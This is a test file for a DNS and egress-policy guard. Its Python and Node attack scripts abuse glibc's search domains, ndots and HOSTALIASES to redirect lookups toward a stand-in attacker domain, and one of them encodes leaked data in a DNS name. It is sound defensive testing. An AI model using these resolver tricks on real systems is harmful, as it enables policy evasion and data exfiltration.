// Attacks on "the name decided is the name queried" (docs/INTERPOSER.md "Lookups"): glibc's resolver does not only
// query the name it is given — it appends search domains (resolv.conf `search`, or LOCALDOMAIN), tries them first
// when the name has fewer dots than `ndots` (RES_OPTIONS), and replaces a dotless name by its HOSTALIASES target —
// and a program sets all of these from its own environment. Each attempt is a plain Python or Node script run as
// `nobody` in enforce mode with a DNS server in the namespace recording every query. Passing = no query for a name
// the policy does not allow, no address bound to a name other than the one that produced it, a guard line naming
// what was blocked — and the search still works for names the policy allows.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { needCommand, needNetns } from '../support/capability.js';
import { needLibrary } from '../support/guard.js';
import {
  ATTACKER_IP,
  createResolverWorld,
  DNS_IP,
  explainRun,
  guardLines,
  PYTHON,
  type ResolverWorld,
  SERVICE_IP,
} from './resolver-world.js';

const ok = needNetns() && needLibrary() && needCommand('setpriv', '--version') && needCommand(PYTHON, '--version');

const POLICY = `version: 1
mode: enforce
allow:
  - name: example
    host: "*.example.com"
  - name: internal-db
    host: db
`;

const BASE_RESOLV = `nameserver ${DNS_IP}\noptions timeout:1 attempts:1\n`;

/** Attacker-controlled names: what glibc's search would produce from names the policy allows. */
const attackerName = (q: string) => q.endsWith('attacker.test');

/** A Python attempt: set the environment as the script itself would, look up, then try to connect to what came back. */
function pythonLookup(env: Record<string, string>, names: string[], aliases?: string): string {
  return `
import json, os, socket, tempfile
${aliases === undefined ? '' : `f = tempfile.NamedTemporaryFile("w", delete=False); f.write(${JSON.stringify(aliases)}); f.close(); os.environ["HOSTALIASES"] = f.name`}
for k, v in ${JSON.stringify(env)}.items(): os.environ[k] = v
out = {}
for n in ${JSON.stringify(names)}:
    try:
        ip = socket.getaddrinfo(n, 8080, type=socket.SOCK_STREAM)[0][4][0]
    except OSError as e:
        out[n] = "lookup-error"; continue
    try:
        socket.create_connection((ip, 8080), timeout=3).close(); out[n] = ip + " connected"
    except OSError as e:
        out[n] = ip + " " + (os.strerror(e.errno) if e.errno else str(e))
print(json.dumps(out))`;
}

describe.skipIf(!ok)('resolver attacks: search lists, ndots and aliases set by the program itself', () => {
  let world: ResolverWorld;
  let policy: string;
  beforeAll(async () => {
    world = await createResolverWorld({
      prefix: 'egrs',
      records: {
        'api.example.com': [SERVICE_IP],
        'data.example.com.attacker.test': [ATTACKER_IP], // data.example.com itself: NXDOMAIN
        'api.example.com.attacker.test': [ATTACKER_IP],
        'leak-c2VjcmV0.attacker.test': [ATTACKER_IP],
        'db.corp.example.com': [SERVICE_IP],
        'db.example.com': [SERVICE_IP],
      },
    });
    policy = world.policy('search', POLICY);
  });
  afterEach(() => world.ns.setResolvConf(BASE_RESOLV));
  afterAll(() => world?.destroy());

  it('Python: LOCALDOMAIN=attacker.test — the NXDOMAIN of an allowed name is not followed by a query under attacker.test', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      code: pythonLookup({ LOCALDOMAIN: 'attacker.test' }, ['data.example.com']),
    });
    expect(r.out, explainRun(r)).toEqual({ 'data.example.com': 'lookup-error' });
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(r.queries).toContain('data.example.com'); // the allowed name itself was asked
    expect(
      guardLines(r.logs, { event: 'dns', host: 'data.example.com.attacker.test', rule: 'default', blocked: true }),
    ).toHaveLength(1);
  });

  it('Python: RES_OPTIONS=ndots:5 + LOCALDOMAIN — the search may not go first and bind the attacker to api.example.com', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      code: pythonLookup({ LOCALDOMAIN: 'attacker.test', RES_OPTIONS: 'ndots:5' }, ['api.example.com']),
    });
    // unguarded, glibc asks api.example.com.attacker.test FIRST and returns the attacker's address for the allowed name
    expect(r.out, explainRun(r)).toEqual({ 'api.example.com': `${SERVICE_IP} connected` });
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(guardLines(r.logs, { event: 'connect', ip: ATTACKER_IP })).toEqual([]);
    // the search name glibc would have asked first was decided, refused, and said so
    expect(
      guardLines(r.logs, { event: 'dns', host: 'api.example.com.attacker.test', blocked: true }),
      explainRun(r),
    ).toHaveLength(1);
  });

  it('Node: process.env LOCALDOMAIN + RES_OPTIONS before dns.lookup — same, from the libuv thread pool', async () => {
    const r = await world.attack({
      lang: 'node',
      policy,
      code: `
process.env.LOCALDOMAIN = 'attacker.test';
process.env.RES_OPTIONS = 'ndots:5';
const dns = require('node:dns');
Promise.all(['api.example.com', 'data.example.com'].map((n) => dns.promises.lookup(n).then((a) => a.address, (e) => e.code)))
  .then((v) => console.log(JSON.stringify(v)));`,
    });
    expect(r.out, explainRun(r)).toEqual([SERVICE_IP, 'ENOTFOUND']);
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(guardLines(r.logs, { event: 'dns', host: 'api.example.com.attacker.test', blocked: true }).length).toBe(1);
  });

  it('Python: HOSTALIASES maps an allowed dotless name to an attacker name — the target is decided, never queried', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      code: pythonLookup({}, ['db'], 'db leak-c2VjcmV0.attacker.test\n'),
    });
    expect(r.out, explainRun(r)).toEqual({ db: 'lookup-error' });
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(
      guardLines(r.logs, { event: 'dns', host: 'leak-c2vjcmv0.attacker.test', rule: 'default', blocked: true }),
    ).toHaveLength(1);
  });

  it('an alias to an allowed name still works, and binds the answer to the name that produced it', async () => {
    const r = await world.attack({
      lang: 'python',
      policy,
      logLevel: 'all',
      code: pythonLookup({}, ['db'], 'db db.example.com\n'),
    });
    expect(r.out, explainRun(r)).toEqual({ db: `${SERVICE_IP} connected` });
    expect(r.queries).toContain('db.example.com');
    // the connect was decided with the name that answered, not the alias the program asked for
    expect(guardLines(r.logs, { event: 'connect', ip: SERVICE_IP })[0]).toMatchObject({ host: 'db.example.com' });
  });

  it('resolv.conf `search attacker.test`: the search never leaves the policy', async () => {
    world.ns.setResolvConf(`${BASE_RESOLV}search attacker.test\n`);
    const r = await world.attack({
      lang: 'python',
      policy,
      code: pythonLookup({}, ['data.example.com', 'db', 'localhost']),
    });
    expect(r.out, explainRun(r)).toEqual({
      'data.example.com': 'lookup-error',
      db: 'lookup-error',
      localhost: '::1 Connection refused', // from the hosts file: no DNS at all
    });
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(
      r.queries.filter((q) => q.startsWith('localhost')),
      explainRun(r),
    ).toEqual([]);
  });

  it('resolv.conf `search corp.example.com`: a short name resolves through an allowed search domain, bound to it', async () => {
    world.ns.setResolvConf(`${BASE_RESOLV}search corp.example.com attacker.test\n`);
    const r = await world.attack({
      lang: 'node',
      policy,
      logLevel: 'all',
      code: `
const net = require('node:net');
const s = net.connect(8443, 'db', () => { console.log(JSON.stringify(s.remoteAddress)); s.destroy(); });
s.on('error', (e) => console.log(JSON.stringify(e.code)));`,
    });
    expect(r.out, explainRun(r)).toBe(SERVICE_IP);
    expect(r.queries.filter(attackerName), explainRun(r)).toEqual([]);
    expect(r.queries).toContain('db.corp.example.com');
    expect(guardLines(r.logs, { event: 'connect', ip: SERVICE_IP, port: 8443 })[0]).toMatchObject({
      host: 'db.corp.example.com',
      decision: 'allow',
      rule: 'example',
    });
  });
});
